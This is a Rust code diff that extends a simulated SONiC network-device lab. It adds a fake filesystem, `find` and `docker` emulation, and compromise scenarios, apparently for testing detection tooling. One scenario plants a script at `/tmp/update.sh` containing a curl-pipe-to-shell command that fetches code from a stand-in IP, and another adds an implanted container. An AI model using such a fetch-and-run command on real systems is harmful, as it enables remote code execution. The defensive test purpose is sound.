@@ -99,6 +99,7 @@ pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
             VfsFile::image(core.alt_image.clone(), MTIME_ETC),
         );
     }
+    files_for_manifest(&mut v, core, flags);
     let serial = &core.serials[usize::from(flags.serial_changed)];
     v.insert(
         "/etc/hostname",
@@ -119,6 +120,233 @@ pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
         VfsFile::bytes(config_db(&core.name, flags.config_changed), MTIME_ETC),
     );
     v
+}
+
+/// The rest of the tree `find` walks: what a SONiC box has where tools are staged and logs are kept,
+/// and what each file scenario puts there.
+fn files_for_manifest(v: &mut Vfs, core: &DeviceCore, flags: &Flags) {
+    for d in [
+        "/boot",
+        "/home",
+        "/home/admin",
+        "/root",
+        "/var",
+        "/var/log",
+        "/usr",
+        "/usr/local",
+        "/usr/local/bin",
+    ] {
+        v.insert(d, VfsFile::dir(MTIME_ETC));
+    }
+    for d in ["/tmp", "/var/tmp"] {
+        v.insert(d, VfsFile::dir(MTIME_ETC).with_mode(0o1777));
+    }
+    v.insert(
+        "/boot/vmlinuz-6.1.0-11-2-amd64",
+        VfsFile::bytes(vec![0x4d, 0x5a, 0, 0], MTIME_IMAGE),
+    );
+    v.insert(
+        "/boot/config-6.1.0-11-2-amd64",
+        VfsFile::bytes("CONFIG_64BIT=y\n", MTIME_IMAGE),
+    );
+    v.insert(
+        "/home/admin/.bashrc",
+        VfsFile::bytes("# ~/.bashrc\n", MTIME_ETC),
+    );
+    v.insert("/root/.bashrc", VfsFile::bytes("# ~/.bashrc\n", MTIME_ETC));
+    v.insert(
+        "/usr/local/bin/sonic-cfggen",
+        VfsFile::bytes("#!/usr/bin/python3\n", MTIME_IMAGE).with_mode(0o755),
+    );
+    v.insert(
+        "/var/log/syslog",
+        VfsFile::bytes("Nov 14 22:13:20 lab sonic: started\n", MTIME_ETC),
+    );
+    v.insert(
+        "/etc/localtime",
+        VfsFile::symlink("/usr/share/zoneinfo/Etc/UTC", MTIME_IMAGE),
+    );
+    v.insert("/etc/ssh", VfsFile::dir(MTIME_ETC));
+    v.insert(
+        "/etc/ssh/sshd_config",
+        VfsFile::bytes("PermitRootLogin no\n", MTIME_ETC),
+    );
+    if flags.tool_copied {
+        v.insert(
+            "/tmp/update.sh",
+            VfsFile::bytes(
+                "#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n",
+                MTIME_ETC + 9000,
+            )
+            .with_mode(0o755),
+        );
+    }
+    if flags.dd_image {
+        v.insert("/backup", VfsFile::dir(MTIME_ETC + 9000));
+        v.insert(
+            "/backup/system_image.img",
+            VfsFile::image(core.alt_image.clone(), MTIME_ETC + 9000),
+        );
+    }
+    if flags.snapshot_created {
+        v.insert("/host/image-202305.1", VfsFile::dir(MTIME_ETC + 9000));
+        v.insert(
+            "/host/image-202305.1/fs.squashfs",
+            VfsFile::image(core.alt_image.clone(), MTIME_ETC + 9000),
+        );
+    }
+    if flags.new_log {
+        v.insert(
+            "/var/log/syslog.1",
+            VfsFile::bytes("Nov 15 00:00:01 lab rsyslogd: rotated\n", MTIME_ETC + 9000),
+        );
+    }
+    if flags.maintenance {
+        v.insert(
+            "/etc/sonic/acl-CHG1234.json",
+            VfsFile::bytes("{\"ACL_TABLE\": {}}\n", MTIME_ETC + 9000),
+        );
+    }
+}
+
+/// `find START... -xdev -maxdepth N -printf FORMAT`, with only the format the linux profile sends.
+fn find(snap: &Snapshot, args: &[String]) -> Reply {
+    let split = args
+        .iter()
+        .position(|a| a.starts_with('-'))
+        .unwrap_or(args.len());
+    let (starts, opts) = args.split_at(split);
+    let depth = match opts {
+        [x, m, n, p, fmt]
+            if x == "-xdev"
+                && m == "-maxdepth"
+                && p == "-printf"
+                && fmt == crate::manifest::LINUX_FIND_PRINTF =>
+        {
+            n.parse::<usize>().ok()
+        }
+        _ => None,
+    };
+    let (Some(depth), false) = (depth, starts.is_empty()) else {
+        return Reply::error(
+            "find: lab supports only `find DIR... -xdev -maxdepth N -printf FORMAT` with the linux profile's format\n",
+            1,
+        );
+    };
+    let mut out = Vec::new();
+    let mut err = String::new();
+    let mut record = |path: &str, f: &VfsFile| {
+        let kind = match &f.data {
+            crate::lab::vfs::FileData::Dir => 'd',
+            crate::lab::vfs::FileData::Symlink(_) => 'l',
+            _ => 'f',
+        };
+        out.extend_from_slice(
+            format!("{kind} {:o} {} {}.0000000000", f.mode, f.len(), f.mtime).as_bytes(),
+        );
+        out.push(0);
+        out.extend_from_slice(path.as_bytes());
+        out.push(0);
+        if let crate::lab::vfs::FileData::Symlink(t) = &f.data {
+            out.extend_from_slice(t.as_bytes());
+        }
+        out.push(0);
+    };
+    for start in starts {
+        let Some(f) = snap.vfs.get(start) else {
+            err.push_str(&format!("find: '{start}': No such file or directory\n"));
+            continue;
+        };
+        record(start, f);
+        if !f.is_dir() {
+            continue;
+        }
+        let prefix = if start == "/" {
+            "/".to_string()
+        } else {
+            format!("{start}/")
+        };
+        for (p, f) in snap.vfs.list(&prefix) {
+            let rel = &p[prefix.len()..];
+            // -xdev: /proc is another filesystem; its mount point is listed, its contents are not.
+            if rel.is_empty() || rel.split('/').count() > depth || p.starts_with("/proc/") {
+                continue;
+            }
+            record(p, f);
+        }
+    }
+    Reply::Output {
+        stdout: out,
+        status: u32::from(!err.is_empty()),
+        stderr: err.into_bytes(),
+    }
+}
+
+/// A `sha256:` digest derived from the lab seed and a label.
+fn digest(snap: &Snapshot, label: &str) -> String {
+    let b = crate::lab::device::derive(snap.core.seed, 0, label);
+    format!("sha256:{}", crate::lab::image::hex(&b))
+}
+
+/// `docker images` / `docker ps` in the JSON-lines form the linux profile asks for.
+fn docker(snap: &Snapshot, args: &[String]) -> Reply {
+    let json = |a: &[&str]| a.len() == args.len() && a.iter().zip(args).all(|(x, y)| x == y);
+    let f = &snap.flags;
+    let mut images = vec![
+        ("docker-database", "latest", digest(snap, "docker-database")),
+        (
+            "docker-snmp",
+            "latest",
+            digest(
+                snap,
+                if f.container_replaced {
+                    "docker-snmp-replaced"
+                } else {
+                    "docker-snmp"
+                },
+            ),
+        ),
+    ];
+    let mut running = vec![
+        ("database", "docker-database:latest"),
+        ("snmp", "docker-snmp:latest"),
+    ];
+    if f.container_implanted {
+        images.push((
+            "registry.example.net/tools/updater",
+            "1.0",
+            digest(snap, "updater"),
+        ));
+        running.push(("updater", "registry.example.net/tools/updater:1.0"));
+    }
+    let mut out = String::new();
+    if json(&[
+        "images",
+        "--digests",
+        "--no-trunc",
+        "--format",
+        "{{json .}}",
+    ]) {
+        for (repo, tag, d) in images {
+            let id = digest(snap, &format!("id-{d}"));
+            out.push_str(&format!(
+                "{{\"Containers\":\"N/A\",\"CreatedAt\":\"2023-11-14 22:13:20 +0000 UTC\",\"Digest\":\"{d}\",\"ID\":\"{id}\",\"Repository\":\"{repo}\",\"Size\":\"133MB\",\"Tag\":\"{tag}\"}}\n"
+            ));
+        }
+    } else if json(&["ps", "--no-trunc", "--format", "{{json .}}"]) {
+        for (name, image) in running {
+            out.push_str(&format!(
+                "{{\"Command\":\"\\\"/usr/local/bin/supervisord\\\"\",\"ID\":\"{}\",\"Image\":\"{image}\",\"Names\":\"{name}\",\"State\":\"running\",\"Status\":\"Up 3 weeks\"}}\n",
+                &digest(snap, name)[7..]
+            ));
+        }
+    } else {
+        return Reply::error(
+            "docker: lab supports only the linux profile's images and ps forms\n",
+            1,
+        );
+    }
+    Reply::text(out)
 }
 
 /// Why a command line was refused by [`lex`].
@@ -235,6 +463,8 @@ pub(crate) fn exec(snap: &Snapshot, command: &str) -> Reply {
             [f, dd, path] if f == "-f" && dd == "--" => scp_source(snap, path),
             _ => Reply::error("usage: scp -f PATH (lab supports only source mode)\n", 1),
         },
+        "find" => find(snap, args),
+        "docker" if snap.core.containers => docker(snap, args),
         "uname" if args.is_empty() || args == ["-s"] => Reply::text("Linux\n"),
         "uname" if args == ["-r"] => Reply::text("6.1.0-11-2-amd64\n"),
         "exit" => Reply::Exit,
